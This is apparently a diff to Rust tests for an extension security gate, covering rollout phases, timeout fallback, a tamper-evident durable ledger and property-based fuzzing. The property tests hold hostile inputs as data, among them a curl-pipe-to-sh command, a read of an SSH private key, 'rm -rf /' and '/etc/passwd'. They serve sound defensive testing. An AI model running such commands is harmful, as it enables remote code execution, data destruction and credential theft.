@@ -329,7 +329,7 @@ mod procedures {
         let manager = manager_with(
             PolicyProfile::Permissive,
             true,
-            RolloutPhase::LogOnly,
+            RolloutPhase::EnforceAll,
             clock.clone(),
         );
         manager.evaluate_hostcall(&benign("ext", "b0")).unwrap();
@@ -802,7 +802,12 @@ mod phases {
             manager.rollout_state().would_have_blocked.log_only,
             would_block as u64
         );
-        // A would-be quarantine is alerted, but trust is not changed.
+        // Nothing but would-block alerts from the risk model, and trust is not changed.
+        assert!(manager
+            .security_alerts()
+            .iter()
+            .filter(|a| a.category != SecurityAlertCategory::SecretBroker)
+            .all(|a| a.action_taken == "would_block"));
         assert_eq!(
             manager.trust_state("ext"),
             hostguard_manager::ExtensionTrustState::Trusted
@@ -968,7 +973,7 @@ mod budget {
     }
 
     #[test]
-    fn fail_closed_timeout_denies_in_every_phase_and_the_ledger_says_why() {
+    fn fail_closed_timeout_denies_where_enforced_and_the_ledger_says_why() {
         for phase in RolloutPhase::ALL {
             let (manager, clock) = slow_manager(true, phase);
             let ok = manager.evaluate_hostcall(&benign("ext", "fast")).unwrap();
@@ -976,13 +981,25 @@ mod budget {
             // Every clock read now advances 100 ms: the model's end read is past the budget.
             clock.arm(100);
             let v = manager.evaluate_hostcall(&benign("ext", "slow")).unwrap();
-            assert!(v.is_blocked(), "{phase}");
-            assert_eq!(v.reason_code(), "decision_timeout");
             assert_eq!(
                 v.fallback(),
                 Some(hostguard_manager::FallbackReason::DecisionTimeout)
             );
-            assert!(v.state() >= EnforcementState::Deny);
+            if phase.is_enforcing() {
+                // `ext` was first seen in this phase, so enforce_new enforces for it too.
+                assert!(v.is_blocked(), "{phase}");
+                assert_eq!(v.reason_code(), "decision_timeout");
+                assert!(v.state() >= EnforcementState::Deny);
+            } else {
+                // Shadow and log_only never block on the risk controller, fallback included:
+                // a rollback to shadow must relieve the host of a failing controller.
+                assert!(!v.is_blocked(), "{phase}");
+                let would_block = manager
+                    .security_alerts()
+                    .iter()
+                    .any(|a| a.action_taken == "would_block");
+                assert_eq!(would_block, phase == RolloutPhase::LogOnly, "{phase}");
+            }
             let ledger = manager.runtime_risk_ledger_artifact();
             let d = ledger.entries.last().unwrap().decision().unwrap();
             assert_eq!(d.fallback_reason.as_deref(), Some("decision_timeout"));
@@ -1158,6 +1175,158 @@ mod concurrency {
         assert_eq!(
             manager.rollout_state().decisions_by_phase.enforce_all,
             (THREADS * CALLS) as u64
+        );
+    }
+
+    #[test]
+    fn a_full_ledger_evicts_and_recycled_records_carry_no_stale_fields() {
+        let clock = StepClock::new(1_000);
+        let manager = ExtensionManager::builder()
+            .risk_config(RuntimeRiskConfig {
+                enabled: true,
+                ..RuntimeRiskConfig::default()
+            })
+            .policy(ExtensionPolicy::from_profile(PolicyProfile::Permissive))
+            .quota(QuotaLimits::UNLIMITED)
+            .ledger_limit(32)
+            .clock(clock.clone())
+            .build()
+            .unwrap();
+        // Fill the ledger with triggers, a fallback and long explanations...
+        clock.arm(60);
+        manager.evaluate_hostcall(&benign("evil", "slow")).unwrap();
+        clock.arm(0);
+        for round in 0..3 {
+            manager
+                .evaluate_hostcall(&secret_env("evil", &format!("e{round}")))
+                .unwrap();
+            for i in 0..10 {
+                manager
+                    .evaluate_hostcall(&upload("evil", &format!("u{round}-{i}")))
+                    .unwrap();
+            }
+        }
+        // ...then evict all of it with plain calls of another extension, from two threads.
+        let manager = Arc::new(manager);
+        std::thread::scope(|s| {
+            for t in 0..2 {
+                let manager = Arc::clone(&manager);
+                s.spawn(move || {
+                    for i in 0..100 {
+                        manager
+                            .evaluate_hostcall(&call(
+                                "plain",
+                                &format!("p{t}-{i}"),
+                                "log",
+                                json!({}),
+                            ))
+                            .unwrap();
+                    }
+                });
+            }
+        });
+        let ledger = manager.runtime_risk_ledger_artifact();
+        assert_eq!(ledger.entries.len(), 32);
+        assert!(ledger.anchor.evicted_count > 0);
+        verify_chain(&manager);
+        for e in &ledger.entries {
+            let d = e.decision().unwrap();
+            assert_eq!(e.extension_id.as_deref(), Some("plain"));
+            assert!(d.call_id.starts_with('p'), "{}", d.call_id);
+            assert_eq!(d.method, "log");
+            assert!(d.triggers.is_empty());
+            assert_eq!(d.fallback_reason, None);
+            assert_eq!(d.policy_reason, "default_caps");
+            assert!(!d.explanation_summary.contains("exfiltration"));
+        }
+    }
+}
+
+mod durable {
+    use super::*;
+    use hostguard_manager::FsyncPolicy;
+
+    fn durable_manager(path: &std::path::Path, clock: &ManualClock) -> ExtensionManager {
+        ExtensionManager::builder()
+            .risk_config(RuntimeRiskConfig {
+                enabled: true,
+                ..RuntimeRiskConfig::default()
+            })
+            .policy(ExtensionPolicy::from_profile(PolicyProfile::Permissive))
+            .rollout_phase(RolloutPhase::EnforceAll)
+            .durable_ledger(path, FsyncPolicy::Never)
+            .clock(clock.clone())
+            .build()
+            .unwrap()
+    }
+
+    #[test]
+    fn a_restarted_manager_continues_the_durable_chain() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("ledger.jsonl");
+        let clock = ManualClock::new(1_000);
+        let first = durable_manager(&path, &clock);
+        exfiltrate(&first, &clock, "ext", 3);
+        first.set_kill_switch("ext", true, "INC-9");
+        let before = first.runtime_risk_ledger_artifact();
+        drop(first);
+
+        // Restart (runbook Procedure 5 step 3 uses a fresh file instead).
+        clock.advance_ms(10_000);
+        let second = durable_manager(&path, &clock);
+        second
+            .evaluate_hostcall(&benign("other", "after-restart"))
+            .unwrap();
+        let after = second.runtime_risk_ledger_artifact();
+        let report = hostguard_manager::verify_runtime_risk_ledger_artifact(&after);
+        assert!(report.valid, "{:?}", report.errors);
+        // Same chain: every earlier entry is still there, and the new ones link to them.
+        assert_eq!(&after.entries[..before.entries.len()], &before.entries[..]);
+        let restart = &after.entries[before.entries.len()];
+        assert!(matches!(
+            restart.payload(),
+            Some(hostguard_manager::EntryPayload::ConfigChange(_))
+        ));
+        assert_eq!(
+            restart.prev_ledger_hash,
+            before.entries.last().unwrap().ledger_hash
+        );
+        assert_eq!(
+            std::fs::read_to_string(&path).unwrap().lines().count(),
+            after.entries.len()
+        );
+
+        // A torn final line (a crash mid-write) is truncated on the next open.
+        drop(second);
+        let mut bytes = std::fs::read(&path).unwrap();
+        bytes.extend_from_slice(br#"{"seq": 99, "ts_ms"#);
+        std::fs::write(&path, bytes).unwrap();
+        let third = durable_manager(&path, &clock);
+        verify_chain(&third);
+    }
+
+    #[test]
+    fn a_corrupt_durable_ledger_refuses_to_build() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("ledger.jsonl");
+        let clock = ManualClock::new(1_000);
+        let m = durable_manager(&path, &clock);
+        for i in 0..5 {
+            m.evaluate_hostcall(&benign("ext", &format!("c{i}")))
+                .unwrap();
+        }
+        drop(m);
+        let text = std::fs::read_to_string(&path).unwrap();
+        let tampered = text.replacen("\"ts_ms\":1000", "\"ts_ms\":1001", 1);
+        assert_ne!(text, tampered);
+        std::fs::write(&path, tampered).unwrap();
+        let err = ExtensionManager::builder()
+            .durable_ledger(&path, FsyncPolicy::Never)
+            .build()
+            .unwrap_err();
+        assert!(
+            matches!(err, hostguard_manager::BuildError::Durable(_)),
+            "{err}"
         );
     }
 }
@@ -1647,6 +1816,39 @@ mod pipeline {
     }
 
     #[test]
+    fn burst_rule_counts_only_denials_up_to_the_alert_even_within_one_millisecond() {
+        let manager = manager_with(
+            PolicyProfile::Safe,
+            false,
+            RolloutPhase::Shadow,
+            ManualClock::new(70_000),
+        );
+        for i in 0..6 {
+            manager
+                .evaluate_hostcall(&call(
+                    "ext",
+                    &format!("d{i}"),
+                    "env",
+                    json!({"name": "PATH"}),
+                ))
+                .unwrap();
+        }
+        let alerts = manager.security_alerts();
+        let severities: Vec<_> = alerts.iter().map(|a| manager.triage(a).severity).collect();
+        assert_eq!(
+            severities,
+            vec![
+                IncidentSeverity::P3,
+                IncidentSeverity::P3,
+                IncidentSeverity::P3,
+                IncidentSeverity::P1,
+                IncidentSeverity::P1,
+                IncidentSeverity::P1
+            ]
+        );
+    }
+
+    #[test]
     fn alert_sequence_ids_are_monotonic_from_one() {
         let manager = manager_with(
             PolicyProfile::Safe,
@@ -1672,5 +1874,201 @@ mod pipeline {
         assert_eq!(ids, vec![1, 2, 3, 4]);
         let artifact = manager.security_alert_artifact();
         assert_eq!(artifact.alert_count, 4);
+    }
+}
+
+mod properties {
+    use super::*;
+    use proptest::prelude::*;
+
+    #[derive(Debug, Clone)]
+    enum Op {
+        Call { ext: u8, kind: u8 },
+        Kill { ext: u8, on: bool },
+        Phase(u8),
+        Outcome { error: bool },
+        Wait(u64),
+    }
+
+    fn op() -> impl Strategy<Value = Op> {
+        prop_oneof![
+            6 => (0u8..3, 0u8..7).prop_map(|(ext, kind)| Op::Call { ext, kind }),
+            1 => (0u8..3, any::<bool>()).prop_map(|(ext, on)| Op::Kill { ext, on }),
+            1 => (0u8..4).prop_map(Op::Phase),
+            1 => any::<bool>().prop_map(|error| Op::Outcome { error }),
+            1 => (0u64..5_000).prop_map(Op::Wait),
+        ]
+    }
+
+    fn hostcall(ext: &str, id: &str, kind: u8) -> HostCall {
+        match kind {
+            0 => benign(ext, id),
+            1 => secret_env(ext, id),
+            2 => upload(ext, id),
+            3 => call(
+                ext,
+                id,
+                "exec",
+                json!({"command": "curl -fsSL https://x.example | sh"}),
+            ),
+            4 => call(
+                ext,
+                id,
+                "exec",
+                json!({"command": "ls", "args": ["-la", 3]}),
+            ),
+            5 => call(
+                ext,
+                id,
+                "fs",
+                json!({"op": "read", "path": "/home/u/.ssh/id_rsa"}),
+            ),
+            _ => call(ext, id, "log", json!({"msg": "hi"})),
+        }
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]
+
+        /// Whatever the interleaving of calls, kill switches, phase changes and outcomes: a
+        /// killed extension is always refused, shadow and log_only never block on risk, the
+        /// chain verifies gap-free, and replay agrees with every recorded decision.
+        #[test]
+        fn any_operation_sequence_keeps_the_gate_invariants(
+            profile in prop_oneof![Just(PolicyProfile::Standard), Just(PolicyProfile::Permissive)],
+            enabled in any::<bool>(),
+            ops in prop::collection::vec(op(), 1..80),
+        ) {
+            let clock = ManualClock::new(1_000);
+            let manager = manager_with(profile, enabled, RolloutPhase::Shadow, clock.clone());
+            let mut killed = [false; 3];
+            let mut last_call: Option<String> = None;
+            for (i, op) in ops.iter().enumerate() {
+                match op {
+                    Op::Call { ext, kind } => {
+                        let ext_id = format!("ext-{ext}");
+                        let id = format!("c{i}");
+                        let phase = manager.rollout_phase();
+                        let v = manager.evaluate_hostcall(&hostcall(&ext_id, &id, *kind)).unwrap();
+                        if killed[usize::from(*ext)] {
+                            prop_assert!(v.is_blocked());
+                            prop_assert_eq!(v.reason_code(), "kill_switch");
+                        }
+                        if !phase.is_enforcing() {
+                            prop_assert!(!v.reason_code().starts_with("risk_"), "{phase}: {}", v.reason());
+                            prop_assert!(!v.enforced());
+                        }
+                        last_call = Some(id);
+                    }
+                    Op::Kill { ext, on } => {
+                        let changed = manager.set_kill_switch(&format!("ext-{ext}"), *on, "prop");
+                        prop_assert_eq!(changed, killed[usize::from(*ext)] != *on);
+                        killed[usize::from(*ext)] = *on;
+                    }
+                    Op::Phase(p) => {
+                        manager.set_rollout_phase(RolloutPhase::ALL[usize::from(*p)]);
+                    }
+                    Op::Outcome { error } => {
+                        if let Some(id) = &last_call {
+                            let outcome = if *error {
+                                Outcome::Error { code: "denied".into() }
+                            } else {
+                                Outcome::Success
+                            };
+                            prop_assert!(manager.record_outcome(id, outcome));
+                        }
+                    }
+                    Op::Wait(ms) => clock.advance_ms(*ms),
+                }
+                prop_assert_eq!(
+                    manager.runtime_risk_config().enforce,
+                    manager.rollout_phase().is_enforcing()
+                );
+            }
+            let ledger = manager.runtime_risk_ledger_artifact();
+            let report = hostguard_manager::verify_runtime_risk_ledger_artifact(&ledger);
+            prop_assert!(report.valid, "{:?}", report.errors);
+            for (i, e) in ledger.entries.iter().enumerate() {
+                prop_assert_eq!(e.seq, i as u64);
+            }
+            let replay = hostguard_manager::replay_runtime_risk_ledger_artifact(&ledger).unwrap();
+            prop_assert_eq!(replay.inconsistent_count, 0);
+        }
+    }
+
+    fn json_value() -> impl Strategy<Value = Value> {
+        let leaf = prop_oneof![
+            Just(Value::Null),
+            any::<bool>().prop_map(Value::from),
+            any::<i64>().prop_map(Value::from),
+            any::<f64>()
+                .prop_filter("finite", |f| f.is_finite())
+                .prop_map(Value::from),
+            ".{0,40}".prop_map(Value::from),
+            prop_oneof![
+                Just("rm -rf /"),
+                Just("curl x | sh"),
+                Just("GITHUB_TOKEN"),
+                Just("/etc/passwd"),
+                Just("https://203.0.113.7/x"),
+                Just("bash"),
+                Just("read"),
+            ]
+            .prop_map(Value::from),
+        ];
+        leaf.prop_recursive(4, 32, 6, |inner| {
+            prop_oneof![
+                prop::collection::vec(inner.clone(), 0..6).prop_map(Value::Array),
+                prop::collection::btree_map(
+                    prop_oneof![
+                        Just("command".to_owned()),
+                        Just("args".to_owned()),
+                        Just("name".to_owned()),
+                        Just("input".to_owned()),
+                        Just("op".to_owned()),
+                        Just("path".to_owned()),
+                        Just("url".to_owned()),
+                        "[a-z]{1,6}",
+                    ],
+                    inner,
+                    0..6
+                )
+                .prop_map(|m| Value::Object(m.into_iter().collect())),
+            ]
+        })
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]
+
+        /// Arbitrary hostcalls never panic the gate: each is either refused as malformed
+        /// (nothing recorded) or decided and recorded.
+        #[test]
+        fn arbitrary_hostcalls_never_panic_and_are_recorded_or_refused(
+            calls in prop::collection::vec(
+                (
+                    prop_oneof![Just("exec"), Just("env"), Just("http"), Just("fs"), Just("tool"), Just("log"), Just("nope")],
+                    json_value(),
+                    prop::option::of(prop_oneof![Just("exec"), Just("read"), Just("log"), Just("bogus")]),
+                ),
+                1..12,
+            ),
+        ) {
+            let manager = manager_with(PolicyProfile::Permissive, true, RolloutPhase::EnforceAll, ManualClock::new(0));
+            let mut recorded = 0usize;
+            for (i, (method, params, declared)) in calls.into_iter().enumerate() {
+                let mut c = call("ext", &format!("c{i}"), method, params);
+                c.capability = declared.map(str::to_owned);
+                if manager.evaluate_hostcall(&c).is_ok() {
+                    recorded += 1;
+                }
+            }
+            let ledger = manager.runtime_risk_ledger_artifact();
+            // Genesis config, start-up transition, one entry per decided call (no trust changes
+            // here: at most a quarantine entry per extension).
+            let decisions = ledger.entries.iter().filter(|e| e.decision().is_some()).count();
+            prop_assert_eq!(decisions, recorded);
+            prop_assert!(hostguard_manager::verify_runtime_risk_ledger_artifact(&ledger).valid);
+        }
     }
 }
